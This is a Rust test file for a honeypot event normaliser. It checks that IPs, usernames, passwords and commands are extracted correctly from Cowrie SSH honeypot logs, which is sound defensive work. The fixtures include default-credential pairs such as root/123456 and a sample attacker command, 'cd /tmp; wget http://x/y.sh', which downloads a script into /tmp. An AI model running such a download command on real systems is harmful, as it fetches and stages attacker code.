//! Table tests for event normalisation.

use serde_json::{Value, json};

use super::*;

fn data(value: Value) -> EventData {
    let Value::Object(map) = value else {
        panic!("data must be an object")
    };
    EventData::from_map(&map)
}

fn norm(event_type: &str, value: Value) -> Normalized {
    normalize(event_type, &data(value))
}

fn fields(n: &Normalized) -> [Option<&str>; 4] {
    [
        n.src_ip.as_deref(),
        n.username.as_deref(),
        n.password.as_deref(),
        n.command.as_deref(),
    ]
}

#[test]
fn fields_from_data() {
    let table = [
        (
            json!({"src_ip": "203.0.113.7", "username": "root", "password": "123456", "input": "uname -a"}),
            [
                Some("203.0.113.7"),
                Some("root"),
                Some("123456"),
                Some("uname -a"),
            ],
        ),
        (
            json!({"ip": "198.51.100.2", "user": "admin", "command": "ls"}),
            [Some("198.51.100.2"), Some("admin"), None, Some("ls")],
        ),
        (
            json!({"remote_ip": "::ffff:192.0.2.1"}),
            [Some("192.0.2.1"), None, None, None],
        ),
        (
            json!({"src_ip": "2001:DB8::1"}),
            [Some("2001:db8::1"), None, None, None],
        ),
        (
            json!({"src_ip": "192.0.2.9:51234"}),
            [Some("192.0.2.9"), None, None, None],
        ),
        (
            json!({"src_ip": "[2001:db8::2]:22"}),
            [Some("2001:db8::2"), None, None, None],
        ),
        // First present wins, in CORE.md's order; a bad address falls through to the next.
        (
            json!({"src_ip": "not-an-ip", "ip": "192.0.2.3", "remote_ip": "192.0.2.4"}),
            [Some("192.0.2.3"), None, None, None],
        ),
        (
            json!({"username": "u1", "user": "u2", "input": "i", "command": "c"}),
            [None, Some("u1"), None, Some("i")],
        ),
        // Non-strings and empty strings are absent.
        (
            json!({"src_ip": 3232235777u32, "username": ["x"], "password": null, "input": ""}),
            [None, None, None, None],
        ),
        (json!({}), [None, None, None, None]),
    ];
    for (input, want) in table {
        let n = norm("cowrie.login.failed", input.clone());
        assert_eq!(fields(&n), want, "{input}");
        assert_eq!(n.event_type, "cowrie.login.failed", "{input}");
    }
}

#[test]
fn cowrie_text_messages() {
    let table = [
        (
            "login attempt [root/123456] failed",
            "cowrie.login.failed",
            [None, Some("root"), Some("123456"), None],
        ),
        (
            "login attempt [admin/pa/ss] w]rd] succeeded",
            "cowrie.login.success",
            [None, Some("admin"), Some("pa/ss] w]rd"), None],
        ),
        (
            "login attempt [b'root'/b'toor'] succeeded",
            "cowrie.login.success",
            [None, Some("root"), Some("toor"), None],
        ),
        (
            "login attempt [/] failed",
            "cowrie.login.failed",
            [None, Some(""), Some(""), None],
        ),
        (
            "CMD: cd /tmp; wget http://x/y.sh",
            "cowrie.command.input",
            [None, None, None, Some("cd /tmp; wget http://x/y.sh")],
        ),
        (
            "New connection: 203.0.113.9:40312 (10.0.0.5:2222) [session: 5a1c]",
            "cowrie.session.connect",
            [Some("203.0.113.9"), None, None, None],
        ),
        ("login attempt [root/123456] maybe", "unknown", [None; 4]),
        ("login attempt root/123456 failed", "unknown", [None; 4]),
        ("something else entirely", "unknown", [None; 4]),
    ];
    for (message, event_type, want) in table {
        let n = norm(TEXT_ONLY_EVENT, json!({"message": message}));
        assert_eq!(n.event_type, event_type, "{message}");
        assert_eq!(fields(&n), want, "{message}");
    }
}

#[test]
fn messages_are_parsed_only_for_text_only_events() {
    let n = norm(
        "cowrie.login.failed",
        json!({"message": "login attempt [a/b] succeeded", "username": "x"}),
    );
    assert_eq!(n.event_type, "cowrie.login.failed");
    assert_eq!(n.username.as_deref(), Some("x"));
    assert_eq!(n.password, None);
}

#[test]
fn long_fields_are_clipped_on_a_char_boundary() {
    let long = "é".repeat(600);
    let n = norm("e", json!({"input": long}));
    let command = n.command.unwrap();
    assert!(command.len() <= MAX_FIELD_LEN);
    assert!(command.chars().all(|c| c == 'é'));
}
